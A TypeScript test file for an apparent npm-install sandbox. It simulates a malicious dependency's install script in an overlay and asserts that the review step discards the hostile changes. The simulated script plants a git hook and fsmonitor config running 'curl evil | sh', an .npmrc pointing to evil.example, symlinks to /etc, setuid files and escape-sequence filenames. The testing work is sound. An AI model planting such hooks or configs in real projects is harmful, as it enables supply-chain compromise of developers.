// A hostile install, run for real in a user namespace over an overlay (see support.ts),
// then secured, reviewed and committed: the project afterwards must be exactly what the
// policy allows, nothing more.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { commitReview, reviewStage, secureStagingDir, recoverCommits } from '../../../src/stage/index.js';
import type { Change } from '../../../src/stage/types.js';
import { makeLayout, removeLayout, runInOverlay, snapshot, SP_OTHER, SP_TEST, writeTree } from './support.js';

const LOCK_BEFORE = '{"name":"app","lockfileVersion":3,"packages":{"node_modules/left-pad":{"version":"1.0.0","resolved":"https://registry.npmjs.org/left-pad/-/left-pad-1.0.0.tgz"}}}\n';
const LOCK_AFTER = '{"name":"app","lockfileVersion":3,"packages":{"node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"}}}\n';
const MANIFEST = '{"name":"app","version":"1.0.0","dependencies":{"left-pad":"^1.0.0"}}\n';

const PROJECT: Record<string, string> = {
  'package.json': MANIFEST,
  'package-lock.json': LOCK_BEFORE,
  'npm-shrinkwrap.json': '{}\n',
  'README.md': '# app\n',
  'src/index.js': 'console.log(1)\n',
  '.git/HEAD': 'ref: refs/heads/main\n',
  '.git/config': '[core]\n\tbare = false\n',
  '.git/hooks/README': 'hooks\n',
  'node_modules/left-pad/index.js': 'module.exports=1\n',
  'node_modules/left-pad/package.json': '{"name":"left-pad","version":"1.0.0"}',
  'node_modules/stale/index.js': 'stale\n',
};

// What a malicious dependency's install script might do, plus what npm ci itself does.
const WORKLOAD = String.raw`
rm -rf node_modules
mkdir node_modules
mkdir -p node_modules/left-pad node_modules/x/g node_modules/.bin
printf 'module.exports=2\n' > node_modules/left-pad/index.js
printf '{"name":"left-pad","version":"1.3.0"}' > node_modules/left-pad/package.json
printf '#!/usr/bin/env node\n' > node_modules/x/bin.js
chmod 755 node_modules/x/bin.js
ln -s ../x/bin.js node_modules/.bin/x
ln -s /etc node_modules/x/evil
ln -s ../../../.. node_modules/x/up
printf 'shared\n' > node_modules/x/a.txt
ln node_modules/x/a.txt node_modules/x/b.txt
printf 'suid\n' > node_modules/x/suid
chmod 4755 node_modules/x/suid
chmod 2777 node_modules/x/g
printf 'ww\n' > node_modules/x/ww
chmod 666 node_modules/x/ww
mkfifo node_modules/x/fifo
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("node_modules/x/sock")'
printf x > "node_modules/x/$(printf 'red\033[31m')"
printf x > 'node_modules/x/..\..\evil'
printf x > "node_modules/x/$(printf 'bad\377')"
mkdir "node_modules/$(printf 'dir\033]0;title\007')"
printf x > "node_modules/$(printf 'dir\033]0;title\007')/inside"
printf '{"name":"app","version":"1.0.0","dependencies":{"left-pad":"^1.3.0"},"scripts":{"postinstall":"node x"}}\n' > package.json
printf '%s\n' '{"name":"app","lockfileVersion":3,"packages":{"node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"}}}' > package-lock.json
rm npm-shrinkwrap.json
rm README.md
printf 'hacked\n' > src/index.js
mkdir -p .github/workflows
printf 'on: push\n' > .github/workflows/x.yml
printf '#!/bin/sh\ncurl evil\n' > .git/hooks/pre-commit
chmod 755 .git/hooks/pre-commit
printf '\tfsmonitor = "curl evil | sh"\n' >> .git/config
mkdir .vscode
printf '{"tasks":[]}' > .vscode/tasks.json
printf 'registry=http://evil.example/\n' > .npmrc
mkdir .safe-package
printf '{"network":"host"}' > .safe-package/config.json
`;

function line(path: string, mode: number, owner: { uid: number; gid: number }, content: string): string {
  const data = Buffer.from(content);
  const shown = data.length <= 64 ? JSON.stringify(content) : `sha256:${createHash('sha256').update(data).digest('hex').slice(0, 16)}`;
  return `${path} file 0${mode.toString(8)} ${owner.uid}:${owner.gid} nlink=1 ${shown}`;
}
const dirLine = (path: string, owner: { uid: number; gid: number }, mode = 0o755) => `${path} dir 0${mode.toString(8)} ${owner.uid}:${owner.gid}`;

// The project's own files stay the fixture user's; everything committed belongs to the
// owner given to the commit (sp-other here, so the two can be told apart).
const U = SP_TEST;
const O = SP_OTHER;
const EXPECTED_AFTER = [
  dirLine('.git', U),
  line('.git/HEAD', 0o644, U, 'ref: refs/heads/main\n'),
  line('.git/config', 0o644, U, '[core]\n\tbare = false\n'),
  dirLine('.git/hooks', U),
  line('.git/hooks/README', 0o644, U, 'hooks\n'),
  line('README.md', 0o644, U, '# app\n'),
  dirLine('node_modules', O),
  dirLine('node_modules/.bin', O),
  `node_modules/.bin/x symlink ${O.uid}:${O.gid} -> ../x/bin.js`,
  dirLine('node_modules/left-pad', O),
  line('node_modules/left-pad/index.js', 0o644, O, 'module.exports=2\n'),
  line('node_modules/left-pad/package.json', 0o644, O, '{"name":"left-pad","version":"1.3.0"}'),
  dirLine('node_modules/x', O),
  line('node_modules/x/a.txt', 0o644, O, 'shared\n'),
  line('node_modules/x/b.txt', 0o644, O, 'shared\n'),
  line('node_modules/x/bin.js', 0o755, O, '#!/usr/bin/env node\n'),
  dirLine('node_modules/x/g', O),
  line('node_modules/x/suid', 0o755, O, 'suid\n'),
  line('node_modules/x/ww', 0o644, O, 'ww\n'),
  line('package-lock.json', 0o644, O, LOCK_AFTER),
  line('package.json', 0o644, U, MANIFEST),
  dirLine('src', U),
  line('src/index.js', 0o644, U, 'console.log(1)\n'),
];

async function hostileInstall(transfer: 'auto' | 'copy'): Promise<{ changes: readonly Change[]; after: string[]; transferUsed: string }> {
  const l = makeLayout(`hostile-${transfer}`, U);
  try {
    writeTree(l.lower, PROJECT, U);
    runInOverlay(l, WORKLOAD, U);
    const secured = await secureStagingDir({ upperDir: l.upper, vaultDir: join(l.root, 'vault') });
    const review = await reviewStage({
      upperDir: secured.upperDir,
      projectDir: l.lower,
      writeGlobs: ['node_modules/**', 'package.json', 'package-lock.json', 'npm-shrinkwrap.json'],
      manifest: 'package.json',
      lockfiles: ['package-lock.json', 'npm-shrinkwrap.json'],
      registryHosts: ['registry.npmjs.org'],
    });
    const stateDir = join(l.root, 'state');
    const result = await commitReview(review, { upperDir: secured.upperDir, projectDir: l.lower, stateDir, owner: O, transfer });
    assert.deepEqual((await recoverCommits(stateDir)).commits, [], 'a finished commit leaves no journal');
    return { changes: review.changes, after: snapshot(l.lower, { owners: true }), transferUsed: result.transfer };
  } finally {
    removeLayout(l);
  }
}

test('a hostile install: only node_modules and the lockfile reach the project, made safe', async () => {
  const { changes, after, transferUsed } = await hostileInstall('auto');
  assert.equal(transferUsed, 'rename', 'upper and project share a file system here');
  assert.deepEqual(after, EXPECTED_AFTER);

  const verdict = new Map(changes.map((c) => [c.path, c]));
  const expectDiscard = (path: string, reason: RegExp): void => {
    const c = verdict.get(path);
    assert.ok(c, `${path} is reported`);
    assert.equal(c.verdict, 'discard', path);
    assert.match(c.reason, reason, path);
  };
  expectDiscard('package.json', /outside the dependency sections: "scripts"/);
  expectDiscard('.github', /CI configuration/);
  expectDiscard('.github/workflows/x.yml', /not committed/);
  expectDiscard('.git/hooks/pre-commit', /git metadata/);
  expectDiscard('.git/config', /git metadata/);
  expectDiscard('.vscode/tasks.json', /not committed|editor/);
  expectDiscard('.npmrc', /package manager configuration/);
  expectDiscard('.safe-package/config.json', /not committed|safe-package/);
  expectDiscard('node_modules/x/evil', /absolute target/);
  expectDiscard('node_modules/x/up', /outside the project/);
  expectDiscard('node_modules/x/fifo', /FIFO refused/);
  expectDiscard('node_modules/x/sock', /socket refused/);
  expectDiscard('node_modules/x/red\\x1b[31m', /ANSI escape/);
  expectDiscard('node_modules/x/..\\\\..\\\\evil', /'\.\.' segment/);
  expectDiscard('node_modules/x/bad\\xff', /not valid UTF-8/);
  expectDiscard('node_modules/dir\\x1b]0;title\\x07', /ANSI escape/);
  expectDiscard('README.md', /not covered/);
  expectDiscard('src/index.js', /not covered/);

  assert.equal(verdict.get('node_modules')!.kind, 'replaced-dir');
  assert.equal(verdict.get('node_modules')!.verdict, 'commit');
  assert.equal(verdict.get('npm-shrinkwrap.json')!.kind, 'deleted');
  assert.equal(verdict.get('npm-shrinkwrap.json')!.verdict, 'commit');
  assert.equal(verdict.get('node_modules/x/a.txt')!.hardLinks, 2);
  assert.match(verdict.get('node_modules/x/suid')!.reason, /setuid/);
  assert.equal(verdict.get('node_modules/.bin/x')!.verdict, 'commit');
  assert.equal([...verdict.keys()].some((p) => p.includes('inside')), false, 'nothing below a refused name is listed');
  for (const c of changes) assert.doesNotMatch(c.path + c.reason, /[\x00-\x1f\x7f-\x9f]/, 'reports are safe to print');
});

test('the same hostile install committed by copying gives the same project', async () => {
  const { after, transferUsed } = await hostileInstall('copy');
  assert.equal(transferUsed, 'copy');
  assert.deepEqual(after, EXPECTED_AFTER);
});

test('a benign dependency change to package.json is committed; a lockfile pointing elsewhere is not', async () => {
  const l = makeLayout('benign');
  try {
    writeTree(l.lower, { 'package.json': MANIFEST, 'package-lock.json': LOCK_BEFORE });
    runInOverlay(l, String.raw`
printf '{\n  "name": "app",\n  "version": "1.0.0",\n  "dependencies": {"left-pad": "^1.3.0", "b": "^2.0.0"}\n}\n' > package.json
printf '%s\n' '{"packages":{"node_modules/b":{"resolved":"https://evil.example/b-2.0.0.tgz"}}}' > package-lock.json
printf '# yarn\n' > yarn.lock
`);
    const review = await reviewStage({
      upperDir: l.upper,
      projectDir: l.lower,
      writeGlobs: ['node_modules/**', 'package.json', 'package-lock.json', 'yarn.lock'],
      manifest: 'package.json',
      lockfiles: ['package-lock.json'],
      registryHosts: ['registry.npmjs.org'],
    });
    const v = new Map(review.changes.map((c) => [c.path, c]));
    assert.equal(v.get('package.json')!.verdict, 'commit');
    assert.match(v.get('package-lock.json')!.reason, /evil\.example/);
    assert.match(v.get('yarn.lock')!.reason, /another package manager/);
    await commitReview(review, { upperDir: l.upper, projectDir: l.lower, stateDir: join(l.root, 'state') });
    assert.deepEqual(snapshot(l.lower), [
      `package-lock.json file 0644 nlink=1 sha256:${createHash('sha256').update(LOCK_BEFORE).digest('hex').slice(0, 16)}`,
      `package.json file 0644 nlink=1 sha256:${createHash('sha256').update('{\n  "name": "app",\n  "version": "1.0.0",\n  "dependencies": {"left-pad": "^1.3.0", "b": "^2.0.0"}\n}\n').digest('hex').slice(0, 16)}`,
    ]);
  } finally {
    removeLayout(l);
  }
});
